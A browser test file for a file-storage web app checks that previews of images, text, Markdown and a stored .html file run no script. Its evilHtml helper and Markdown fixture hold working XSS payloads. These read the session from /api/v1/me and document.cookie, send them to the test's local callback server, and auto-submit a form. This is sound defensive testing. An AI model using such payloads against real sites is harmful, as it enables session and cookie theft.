/**
 * Previews in the browser: an image (its pixels decode), text, Markdown rendered with its
 * <script>, onerror= image and javascript: link left inert, previous/next between files, and a
 * stored .html file — shown as source, then rendered in the sandboxed frame — whose script
 * would read the session (/api/v1/me, document.cookie), send it to a server of the test's, open
 * a dialog and mark the parent window: none of it happens. axe-core on the previews; screenshots
 * at phone and desktop size.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DESKTOP, PHONE, seriousViolations, shot, signedInContext, startWebEnv, type WebEnv } from '@coffer/web/testing/browser';
import { driveFor } from '@coffer/web/testing/drive';

let env: WebEnv;
const { put } = driveFor({ get server() { return env.server; } });
let callback: Server;
let callbackUrl = '';
/** Requests that reached the test's own server from a page (there must be none). */
const hits: string[] = [];

beforeAll(async () => {
  env = await startWebEnv();
  callback = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' });
    res.end();
  });
  await new Promise<void>((r) => callback.listen(0, '127.0.0.1', () => r()));
  callbackUrl = `http://127.0.0.1:${(callback.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await env?.close();
  await new Promise((r) => callback?.close(r));
});

/** A real PNG: w×h pixels of one colour. */
function png(w: number, h: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td) >>> 0);
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, Buffer.from([0x1f, 0x5f, 0xbf]))]);
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

function evilHtml(cb: string): string {
  const steal = `fetch('/api/v1/me',{credentials:'include'}).then(function(r){return r.text()}).then(function(t){fetch('${cb}/hit/me?d='+encodeURIComponent(t))});`;
  return `<!doctype html><html><head><title>evil</title><meta http-equiv="refresh" content="0;url=${cb}/hit/refresh"></head><body>
<h1>Hello from the stored page</h1>
<script>try{parent.pwned=1}catch(e){};try{top.document.title='pwned'}catch(e){};${steal}
new Image().src='${cb}/hit/cookie?c='+encodeURIComponent(document.cookie);alert('xss');</script>
<img src="missing.png" onerror="parent.pwned=2;${steal.replace(/"/g, '&quot;')}">
<img src="${cb}/hit/img">
<form action="${cb}/hit/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>
</body></html>`;
}

describe('previews', () => {
  it('shows an image, text and Markdown (its script, onerror and javascript: link inert), with previous/next', async () => {
    const user = await env.server.user();
    await put(user.token, '/a-photo.png', png(48, 32));
    await put(user.token, '/b-notes.md', `# Trip plans\n\nPack **boots** and a map.\n\n<script>window.pwned = 'md-script'</script>\n\n<img src="nothing.png" onerror="window.pwned = 'md-onerror'">\n\n[click me](javascript:window.pwned='md-link')\n\n<p style="color:red" onclick="window.pwned='md-click'">styled</p>\n`);
    await put(user.token, '/c-readme.txt', 'plain words\nsecond line');
    for (const [size, viewport] of [['desktop', DESKTOP], ['phone', PHONE]] as const) {
      const ctx = await signedInContext(env, user, viewport);
      const page = await ctx.newPage();
      const errors: string[] = [];
      const dialogs: string[] = [];
      page.on('pageerror', (e) => errors.push(e.message));
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.goto('/files');
      await page.getByRole('button', { name: 'a-photo.png', exact: true }).click();
      const preview = page.getByRole('dialog', { name: 'a-photo.png' });
      const img = preview.getByRole('img', { name: 'a-photo.png' });
      await img.waitFor();
      await expect.poll(() => img.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(48);
      // The server's thumbnail (never enlarged), not the original bytes.
      expect(await img.getAttribute('src')).toMatch(/^\/api\/v1\/files\/[^/]+\/thumbnail\?size=1024&hash=[0-9a-f]{64}$/);
      expect(await seriousViolations(page)).toEqual([]);
      await preview.getByText('1 of 3').waitFor();

      // Next: the Markdown, rendered.
      await preview.getByRole('button', { name: 'Next file' }).click();
      const md = page.getByRole('dialog', { name: 'b-notes.md' });
      await md.getByRole('heading', { name: 'Trip plans' }).waitFor();
      expect(await md.locator('article strong').textContent()).toBe('boots');
      const article = md.locator('article.preview-markdown');
      expect(await article.locator('script').count()).toBe(0);
      expect(await article.locator('[onerror], [onclick], [style]').count()).toBe(0);
      const href = await article.getByText('click me').getAttribute('href');
      expect(href ?? '').not.toMatch(/^javascript:/i);
      await article.getByText('click me').click();
      await article.getByText('styled').click();
      expect(await seriousViolations(page)).toEqual([]);
      await shot(page, `preview-${size}`, true);

      // Next: the text file; then back with the arrow key.
      await md.getByRole('button', { name: 'Next file' }).click();
      await page.getByRole('dialog', { name: 'c-readme.txt' }).getByText('plain words').waitFor();
      expect(await seriousViolations(page)).toEqual([]);
      await page.keyboard.press('ArrowLeft');
      await page.getByRole('dialog', { name: 'b-notes.md' }).waitFor();
      await page.getByRole('button', { name: 'Close preview' }).click();
      await page.getByRole('dialog').waitFor({ state: 'detached' });

      expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
      await ctx.close();
    }
  });

  it('a stored .html file previewed runs no script with the session, as source or rendered', async () => {
    const user = await env.server.user();
    await put(user.token, '/evil.html', evilHtml(callbackUrl));
    const ctx = await signedInContext(env, user, DESKTOP);
    const page = await ctx.newPage();
    const fromFrames: string[] = [];
    const fromApp: string[] = [];
    const dialogs: string[] = [];
    // Requests that left the browser: chromium also reports requests its CSP then blocks
    // (net::ERR_BLOCKED_BY_CSP, as DevTools lists them), so count the finished ones.
    page.on('requestfinished', (r) => {
      const u = r.url();
      if (r.frame() !== page.mainFrame()) fromFrames.push(u);
      else if (u.includes('/api/v1/')) fromApp.push(new URL(u).pathname);
    });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto('/files');
    await page.getByRole('button', { name: 'evil.html', exact: true }).click();
    const preview = page.getByRole('dialog', { name: 'evil.html' });
    // The source, as text.
    await preview.getByText("parent.pwned=1", { exact: false }).waitFor();
    expect(await preview.locator('pre').textContent()).toContain('<script>');
    expect(await seriousViolations(page)).toEqual([]);

    // Rendered: in a frame sandboxed without scripts (an opaque origin).
    await preview.getByRole('button', { name: 'Rendered (no scripts)' }).click();
    const frameEl = preview.locator('iframe');
    await frameEl.waitFor();
    expect(await frameEl.getAttribute('sandbox')).toBe('');
    const frame = (await frameEl.elementHandle())!.contentFrame();
    const inside = await frame;
    expect(inside).not.toBeNull();
    await inside!.getByRole('heading', { name: 'Hello from the stored page' }).waitFor();
    // The frame is an opaque origin (the sandbox, not only the app's CSP): no cookie jar, no
    // storage, nothing same-origin with the app even if a script did run.
    expect(await inside!.evaluate(() => window.origin)).toBe('null');
    expect(await inside!.evaluate(() => {
      try {
        return document.cookie;
      } catch (e) {
        return (e as Error).name;
      }
    })).toBe('SecurityError');
    expect(await seriousViolations(page)).toEqual([]);
    await new Promise((r) => setTimeout(r, 1500)); // time for any script, refresh or form to act

    // Nothing happened: no call with the session from the frame, nothing reached our server,
    // no dialog, the app's window untouched.
    expect(fromFrames.filter((u) => u.includes('/api/v1'))).toEqual([]);
    expect(fromFrames.filter((u) => u.startsWith(callbackUrl))).toEqual([]);
    expect(hits).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(await page.title()).not.toBe('pwned');
    // The listener does see requests: the app's own calls with the session were recorded.
    expect(fromApp).toContain('/api/v1/me');
    expect((await ctx.cookies()).map((c) => c.name).sort()).toEqual(['coffer_session']);
    await ctx.close();
  });
});
